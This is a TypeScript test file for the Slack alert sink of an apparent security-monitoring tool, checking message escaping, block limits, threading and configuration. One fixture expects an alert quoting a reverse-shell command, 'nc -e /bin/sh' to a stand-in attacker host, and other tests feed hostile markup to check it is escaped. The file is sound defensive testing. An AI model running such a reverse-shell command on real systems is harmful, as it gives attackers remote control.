import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import type { Sink } from '../../src/sinks/sink.ts';
import { createSlack, slackConfig } from '../../src/sinks/slack.ts';
import { escapeSlack, SLACK_LIMITS, slackMessage } from '../../src/sinks/slack-blocks.ts';
import { tell } from '../../src/sinks/story.ts';
import { HOSTILE } from '../support/hostile.ts';
import { httpSinkConformance } from './conformance.ts';
import {
  aDelivery,
  anAlert,
  anIncident,
  hostileDelivery,
  type Receiver,
  receiver,
  STEERS,
  someDeps,
  stringsIn,
} from './support.ts';

const webhook = (url: string): Sink =>
  createSlack(
    'soc',
    slackConfig.parse({ type: 'slack', webhook_url: `${url}/services/T0/SECRET`, allow_private: true }),
    someDeps(),
  );
const bot = (url: string, deps = someDeps()): Sink =>
  createSlack(
    'soc',
    slackConfig.parse({
      type: 'slack',
      token: 'xoxb-SECRET',
      channel: 'C1',
      api_url: `${url}/api`,
      allow_private: true,
    }),
    deps,
  );

httpSinkConformance('slack (incoming webhook)', {
  create: webhook,
  success: { status: 200, body: 'ok' },
  statusSuffices: true,
});
httpSinkConformance('slack (chat.postMessage)', {
  create: bot,
  success: { status: 200, body: '{"ok":true,"ts":"1.2"}' },
  statusSuffices: false,
});

interface Node {
  readonly type?: string;
  readonly text?: string | Node;
  readonly [key: string]: unknown;
}

/** Every object in a message, with its parents' types. */
function* objects(value: unknown, path: readonly string[] = []): Generator<[Node, readonly string[]]> {
  if (Array.isArray(value)) for (const item of value) yield* objects(item, path);
  else if (typeof value === 'object' && value !== null) {
    const node = value as Node;
    yield [node, path];
    for (const child of Object.values(node))
      yield* objects(child, node.type === undefined ? path : [...path, node.type]);
  }
}

const whole = (text: string): boolean => !/\p{Cs}/u.test(text) && !/&(?!(amp|lt|gt);)/.test(text);

function checkLimits(message: ReturnType<typeof slackMessage>): void {
  expect(JSON.stringify(message).length).toBeLessThan(10_000);
  expect(message.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocksMax);
  for (const [node, path] of objects(message.blocks)) {
    if (node.type === 'header') expect((node.text as Node).text?.length).toBeLessThanOrEqual(150);
    if (node.type === 'section') {
      const fields = (node.fields ?? []) as Node[];
      expect(fields.length).toBeLessThanOrEqual(10);
      for (const field of fields) expect((field.text as string).length).toBeLessThanOrEqual(2_000);
      if (node.text !== undefined) expect(((node.text as Node).text as string).length).toBeLessThanOrEqual(3_000);
      expect(node.text !== undefined || fields.length > 0).toBe(true);
    }
    if (node.type === 'plain_text' || node.type === 'mrkdwn') {
      const text = node.text as string;
      expect(text.length).toBeGreaterThan(0);
      expect(whole(text)).toBe(true);
    }
    if (node.type === 'plain_text') expect(node.text).not.toMatch(/[<>]/);
    if (node.type === 'text') expect(path.includes('rich_text')).toBe(true);
  }
}

describe('a Slack message', () => {
  it('tells what happened', () => {
    const message = JSON.stringify(slackMessage(tell(aDelivery(), 'https://spoor.example/')));
    for (const part of [
      'CRITICAL: nc in tenant-jobs/crawler-1 gave a shell to c2.evil.example',
      'tenant-jobs/crawler-1',
      '/usr/bin/nc -e /bin/sh 203.0.113.7 4444',
      '/usr/sbin/nginx',
      'c2.evil.example 203.0.113.7:4444',
      'Reverse shell',
      'T1059.004',
      '3 times, 2 suppressed',
      '<https://spoor.example/api/v1/incidents/i1|Open the incident>',
    ]) {
      expect(message).toContain(part);
    }
  });

  it('does not unfurl, and parses no markup but our link', () => {
    const message = slackMessage(tell(aDelivery(), 'https://spoor.example'));
    expect(message).toMatchObject({ unfurl_links: false, unfurl_media: false });
    const markup = [...objects(message.blocks)].map(([node]) => node).filter(node => node.type === 'mrkdwn');
    expect(markup).toMatchObject([{ verbatim: true }]);
  });

  it.each(HOSTILE)('lets hostile text neither act nor break a limit: $name', ({ text }) => {
    const message = slackMessage(tell(hostileDelivery(text), 'https://spoor.example'));
    checkLimits(message);
    // The fallback text and markup are ours alone.
    expect(message.text).toBe('CRITICAL: Reverse shell');
    const markup = [...objects(message.blocks)].map(([node]) => node).filter(node => node.type === 'mrkdwn');
    expect(markup.map(node => node.text)).toEqual(['<https://spoor.example/api/v1/incidents/i1|Open the incident>']);
    for (const shown of stringsIn(message)) expect(shown).not.toMatch(STEERS);
  });

  it('keeps its limits for any text and number of alerts', () => {
    const unit = fc.constantFrom('&', '<', '>', 'a', '💥', '\ud83d', '\u0000', 'é', '"', '\\');
    fc.assert(
      fc.property(fc.array(unit, { maxLength: 4_000 }), fc.integer({ min: 0, max: 80 }), (units, count) => {
        const one = hostileDelivery(units.join(''));
        const alerts = Array.from({ length: count }, () => one.alerts[0]!);
        checkLimits(slackMessage(tell({ ...one, alerts }, 'https://spoor.example')));
      }),
      { numRuns: 60 },
    );
  });

  it('cuts by code point, never inside an entity', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('&', '<', '>', 'a', '💥')),
        fc.integer({ min: 1, max: 60 }),
        (units, max) => {
          const out = escapeSlack(units.join(''), max);
          return out.length <= max && whole(out);
        },
      ),
    );
  });

  it('says that an incident was resolved, by whom and why', () => {
    const delivery = aDelivery({
      signal: 'incident.resolved',
      alerts: [],
      incident: anIncident({
        state: 'resolved',
        changed: { by: 'anna', at: '2026-01-01T00:00:00.000Z', reason: 'a <!channel> drill\u202e' },
      }),
    });
    const message = slackMessage(tell(delivery, null));
    checkLimits(message);
    expect(JSON.stringify(message)).toContain('RESOLVED: crawler was taken over');
    expect(message.blocks).toContainEqual({
      type: 'section',
      text: {
        type: 'plain_text',
        text: 'By anna at 2026-01-01T00:00:00.000Z: a &lt;!channel&gt; drill\\u202e',
        emoji: false,
      },
    });
  });
});

describe('chat.postMessage', () => {
  const open: (() => Promise<void>)[] = [];
  afterEach(async () => {
    await Promise.all(open.splice(0).map(close => close()));
  });
  const answering = async (answers: object[]): Promise<Receiver> => {
    let n = 0;
    const made = await receiver((_, response) =>
      response.end(JSON.stringify(answers[Math.min(n++, answers.length - 1)])),
    );
    open.push(made.close);
    return made;
  };
  const keep = (sink: Sink): Sink => {
    open.push(() => sink.close());
    return sink;
  };
  const bodies = ({ received }: Receiver) => received.map(r => JSON.parse(r.body));
  const signal = () => AbortSignal.timeout(5_000);

  it('posts with its token, and keeps one thread an incident', async () => {
    const slack = await answering([
      { ok: true, ts: '1.1' },
      { ok: true, ts: '1.2' },
      { ok: true, ts: '1.3' },
    ]);
    const sink = keep(bot(slack.url));
    const other = { alerts: [anAlert({ id: 'b', incident_id: 'i2' })], incident: anIncident({ id: 'i2' }) };
    for (const delivery of [aDelivery(), aDelivery({ id: 'd2' }), aDelivery({ id: 'd3', ...other })]) {
      expect(await sink.send(delivery, signal())).toMatchObject({ outcome: 'delivered' });
    }
    expect(slack.received[0]).toMatchObject({
      path: '/api/chat.postMessage',
      headers: { authorization: 'Bearer xoxb-SECRET' },
    });
    expect(bodies(slack).map(b => [b.channel, b.thread_ts])).toEqual([
      ['C1', undefined],
      ['C1', '1.1'],
      ['C1', undefined],
    ]);
  });

  it('posts once, without threads, when nothing can be remembered', async () => {
    const slack = await answering([{ ok: true, ts: '1.1' }]);
    const broken = {
      get: () => Promise.reject(new Error('disk full')),
      set: () => Promise.reject(new Error('disk full')),
    };
    const sink = keep(bot(slack.url, someDeps({ threads: broken })));
    expect(await sink.send(aDelivery(), signal())).toMatchObject({ outcome: 'delivered' });
    expect(slack.received).toHaveLength(1);
  });

  it('begins a new thread when the old one is gone', async () => {
    const slack = await answering([
      { ok: true, ts: '1.1' },
      { ok: false, error: 'thread_not_found' },
      { ok: true, ts: '2.1' },
    ]);
    const sink = keep(bot(slack.url));
    const outcomes = [];
    for (let i = 0; i < 3; i += 1) outcomes.push((await sink.send(aDelivery(), signal())).outcome);
    expect(outcomes).toEqual(['delivered', 'retry', 'delivered']);
    expect(bodies(slack).map(b => b.thread_ts)).toEqual([undefined, '1.1', undefined]);
  });

  it.each([
    ['ratelimited', 50, 'retry'],
    ['internal_error', 50, 'retry'],
    ['invalid_blocks', 1, 'drop'],
    ['channel_not_found', 1, 'retry'],
    ['channel_not_found', 10, 'drop'],
    ['invalid_auth', 10, 'drop'],
    ['<!channel> SECRET', 1, 'retry'],
  ])('understands ok:false with %s at attempt %i', async (error, attempt, outcome) => {
    const slack = await answering([{ ok: false, error }]);
    const result = await keep(bot(slack.url)).send(aDelivery({ attempt }), signal());
    expect(result.outcome).toBe(outcome);
    expect(result.detail).not.toMatch(/SECRET|</);
  });

  it.each(['', 'null', '[]', '{"ok":"yes"}', '<html>'])('does not take %j for success', async body => {
    const slack = await receiver((_, response) => response.end(body));
    open.push(slack.close);
    expect((await keep(bot(slack.url)).send(aDelivery(), signal())).outcome).toBe('retry');
  });
});

describe('the configuration of slack', () => {
  it.each([
    [{}, /either/],
    [{ webhook_url: 'https://hooks.example/x', token: 'x', channel: 'c' }, /either/],
    [{ token: 'x' }, /needs channel/],
    [{ webhook_url: 'https://hooks.example/x', webhook_url_file: '/x' }, /not both/],
    [{ webhook_url: 'https://hooks.example/x', chanel: 'x' }, /chanel/],
  ])('%j', (config, message) => expect(() => slackConfig.parse({ type: 'slack', ...config })).toThrow(message));

  it('sends one message a second, one after another', () => {
    expect(slackConfig.parse({ type: 'slack', webhook_url_file: '/run/secrets/slack' })).toMatchObject({
      rate: 1,
      concurrency: 1,
    });
  });
});
